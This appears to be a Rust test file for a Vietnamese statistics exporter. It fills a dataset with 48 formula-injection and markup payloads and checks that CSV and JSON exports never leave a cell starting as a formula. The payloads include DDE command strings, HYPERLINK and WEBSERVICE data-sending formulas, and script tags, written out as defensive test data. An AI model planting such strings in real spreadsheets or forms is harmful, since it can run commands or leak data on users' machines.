//! Texts that would be formulas, commands or markup: in no file do they begin a cell as one.

use std::sync::Arc;

use chi_tieu::{
    domain::{Dataset, Wording},
    sheets::{Book, Cell, ExportScope, Extent, IndicatorRow, Notation, csv, indicators, selection, workbook},
    text::Lang,
};

use super::{parser::parse, shipped};

const PAYLOADS: [&str; 48] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://example.org\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMAGE(\"http://example.org/a.png\")",
    "+1+1",
    "+cmd|' /C notepad'!A1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   @SUM(1)",
    "\u{a0}=1+1",
    "\u{2003}+1",
    "\u{feff}=1+1",
    "\u{200b}-1",
    "\u{b}=1",
    "\u{c}@x",
    "\0=1+1",
    "tên\n=1+1",
    "tên\r\n  +1",
    "tên\r@x",
    "a\n\n-b",
    "a\u{2028}=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "=\"\"&1",
    "\";=1+1;\"",
    "\",=1+1,\"",
    "\"\r\n=1+1;",
    "\"=1+1\"\r\n@y",
    "'=1+1",
    "%0A=1",
    "=",
    "-",
    "+",
    "@",
    "<script>alert(1)</script>",
    "]]><x onload=alert(1)>",
];

/// The shipped dataset with a text in every place that a webmaster fills in.
fn poisoned(payload: &str) -> Dataset {
    let twice = || Wording { vi: payload.to_owned(), en: Some(payload.to_owned()) };
    let mut dataset = shipped();
    dataset.document.number = Some(payload.to_owned());
    dataset.document.issuer = twice();
    dataset.territory.boundaries = Some(twice());
    for group in &mut dataset.groups {
        group.name = twice();
        group.number = payload.to_owned();
        for indicator in group.indicators.iter_mut().map(Arc::make_mut) {
            indicator.name = twice();
            let mut unit = (*indicator.unit).clone();
            unit.name = twice();
            indicator.unit = unit.into();
            for note in &mut indicator.notes {
                note.text = twice();
                note.period = None;
            }
            if let Some(official) = &mut indicator.official {
                official.printed = payload.to_owned();
            }
        }
    }
    Dataset::new(dataset.contents())
}

fn begins_a_formula(cell: &str) -> bool {
    let is_number = cell.replace(',', ".").parse::<f64>().is_ok();
    let begins = |line: &str| {
        let invisible = |it: char| it.is_whitespace() || it.is_control() || "\u{feff}\u{200b}".contains(it);
        line.trim_start_matches(invisible).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
    };
    let lines = cell.split(['\r', '\n', '\u{2028}', '\u{b}', '\u{c}']);
    !is_number && (cell.starts_with(['\t', '\r', '\n', '\0']) || lines.into_iter().any(begins))
}

#[test]
fn the_test_knows_formulas_when_it_sees_them() {
    let seen = PAYLOADS.iter().filter(|payload| begins_a_formula(payload)).count();
    assert!(seen >= 40, "only {seen} of the payloads");
    assert!(!begins_a_formula("-9,2") && !begins_a_formula("tăng 9 = nhiều"));
}

#[test]
fn no_cell_of_separated_text_begins_like_a_formula() {
    for payload in PAYLOADS {
        let dataset = poisoned(payload);
        for lang in [Lang::Vi, Lang::En] {
            let sheet = indicators(lang, &dataset.comparison, &IndicatorRow::all(&dataset), &[]);
            for (notation, separator) in [(Notation::Vietnamese, ';'), (Notation::International, ',')] {
                let text = csv(notation, &sheet, ("N", payload));
                let rows = parse(text.trim_start_matches('\u{feff}'), separator);
                assert_eq!(rows.len(), 29, "no payload makes rows of its own: {payload:?}");
                for cell in rows.iter().flatten() {
                    assert!(!begins_a_formula(cell), "{payload:?}: {cell:?}");
                }
                assert!(rows.iter().all(|row| row.len() == sheet.columns.len() + 1), "or cells: {payload:?}");
            }
        }
    }
}

#[test]
fn in_json_a_payload_is_the_text_it_was() {
    let export_scope =
        ExportScope { extent: Extent::All, view: String::new(), filters: Vec::new(), order: String::new() };
    for payload in PAYLOADS {
        let dataset = poisoned(payload);
        let sheet = indicators(Lang::Vi, &dataset.comparison, &IndicatorRow::all(&dataset), &[]);
        let book = Book::new(Lang::Vi, &dataset, vec![sheet], &export_scope);
        let read: serde_json::Value =
            serde_json::from_str(&selection(&dataset, "vi", &book.figures, &export_scope)).unwrap();
        assert_eq!(read["indicators"][3]["name"], payload);
        assert_eq!(read["document"]["number"], payload);

        let read: serde_json::Value = serde_json::from_str(&workbook(book.sheets())).unwrap();
        let at = book.figures[0].columns.iter().position(|column| column.key == "name").unwrap();
        assert_eq!(read[0]["rows"][3][at], payload, "a text, not a formula");
        assert_eq!(book.figures[0].rows[3][at], Cell::Text(payload.to_owned()));
    }
}
